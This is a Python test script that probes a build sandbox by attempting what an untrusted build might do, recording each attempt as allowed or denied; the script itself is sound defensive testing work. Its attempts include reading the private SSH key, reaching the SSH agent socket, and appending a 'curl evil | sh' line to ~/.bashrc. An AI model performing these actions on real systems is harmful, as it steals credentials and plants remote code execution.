"""What an untrusted build might try. Run inside the sandbox and, as the
counterpart, outside it; writes {attempt: "ALLOWED" | "denied: ..."} to argv[1]."""
import json
import os
import socket
import sys

results = {}


def attempt(name, action):
    try:
        action()
        results[name] = "ALLOWED"
    except Exception as exc:  # noqa: BLE001 - every failure is a denial here
        results[name] = f"denied: {type(exc).__name__}: {exc}"


def read_key():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
        if "PRIVATE KEY" not in f.read():
            raise ValueError("not the planted key")


def write_outside():
    with open(os.environ["OUTSIDE"], "w") as f:
        f.write("pwned\n")


def write_beside_workspace():
    with open(os.environ["BESIDE"], "w") as f:
        f.write("pwned\n")


def write_home():
    with open(os.path.expanduser("~/.bashrc"), "a") as f:
        f.write("curl evil | sh\n")


def agent_env():
    if not os.environ.get("SSH_AUTH_SOCK"):
        raise KeyError("SSH_AUTH_SOCK not set")


def agent_socket():
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(2)
        s.connect(os.environ["AGENT_PATH"])
        if s.recv(16) != b"AGENT":
            raise ValueError("no agent greeting")


def host_loopback():
    with socket.create_connection(("127.0.0.1", int(os.environ["HOST_PORT"])), timeout=2) as s:
        s.settimeout(2)
        if s.recv(16) != b"HOST":
            raise ValueError("no host greeting")


attempt("read_ssh_key", read_key)
attempt("write_outside", write_outside)
attempt("write_beside_workspace", write_beside_workspace)
attempt("write_home", write_home)
attempt("ssh_auth_sock_env", agent_env)
attempt("ssh_agent_socket", agent_socket)
attempt("host_loopback", host_loopback)
with open(sys.argv[1], "w") as f:
    json.dump(results, f, indent=1)
